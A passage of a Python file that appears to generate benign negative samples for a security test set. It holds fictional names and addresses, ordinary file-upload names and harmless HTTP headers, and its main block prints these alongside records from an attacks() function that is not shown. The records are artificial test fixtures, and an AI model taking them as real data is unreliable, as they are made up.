    ("Grafana Labs Partner Desk", "Regeringsgatan 3, Stockholm"),
    ("Pat O'Neil", "Harcourt St 9, Dublin"),
    ("Release Team Berlin", "Friedrichstr. 68, Berlin"),
    ("Sam Eval", "Dalston Lane 21, London"),
    ("Priya System", "Residency Rd 5, Bengaluru"),
    ("Build & Deploy Ltd", "Tech Park 8, Cork"),
    ("Kim Zabbix", "Brivibas iela 33, Riga"),
    ("Alex Vue", "Rue de Rivoli 101, Paris"),
    ("Nagios Support Desk", "Main St 400, Saint Paul"),
    ("Chris Angular", "Queen St 55, Brisbane"),
    ("Platform SRE Team", "Bahnhofstrasse 1, Zürich"),
    ("Lee Harbor", "Harbour Rd 2, Hong Kong"),
    ("Mia Nexus", "Keizersgracht 200, Amsterdam"),
]

UPLOAD_NAMES = [
    "build-4711.log", "junit-report.xml", "coverage.xml", "sonar-report.json", "Jenkinsfile.txt",
    "grafana-dashboard-api-latency.json", "prometheus-rules.yaml", "phpunit-results.xml", "php-fpm-slow.log",
    "composer.lock", "release-notes-2.8.md", "values-prod.yaml", "trivy-scan.sarif", "zabbix_export_hosts.xml",
    "nagios-checks.cfg", "kibana-export.ndjson", "mediawiki-dump.xml.gz", "Screenshot 2024-06-11 at 10.42.13.png",
    "incident-2024-06-10-timeline.docx", "api-v2.openapi.yaml", "eval-results.csv", "system-diagram.drawio",
    "alertmanager.yml", "argocd-app-prod.yaml", "icons.svg",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "GitLab/16.11.2"),
    ("User-Agent", "Grafana/10.4.2"),
    ("User-Agent", "Prometheus/2.51.1"),
    ("User-Agent", "Go-http-client/2.0"),
    ("User-Agent", "curl/8.7.1"),
    ("User-Agent", "Jenkins/2.440.3"),
    ("Referer", "https://jenkins.example.com/job/api/job/main/4711/"),
    ("Referer", "https://gitlab.example.com/platform/api/-/merge_requests/4812"),
    ("Referer", "https://grafana.example.com/d/api-latency/api-latency?orgId=1&var-env=prod"),
    ("Referer", "https://jira.example.com/browse/OPS-4411?focusedCommentId=10231"),
    ("Referer", "https://confluence.example.com/pages/viewpage.action?pageId=884412"),
    ("X-Gitlab-Event", "Merge Request Hook"),
    ("X-GitHub-Event", "workflow_run"),
    ("X-Request-Id", "7d2c4e1a-90b3-4f6e-a1c8-3e5b9d0f2a64"),
    ("X-Api-Version", "2024-06-01"),
    ("Accept-Language", "en-US,en;q=0.9,pt;q=0.7"),
    ("Cookie", "session=abc123; theme=dark; dashboard=api-latency"),
    ("Cookie", "session=abc123; last_search=release%20managers; tz=Europe%2FBerlin"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
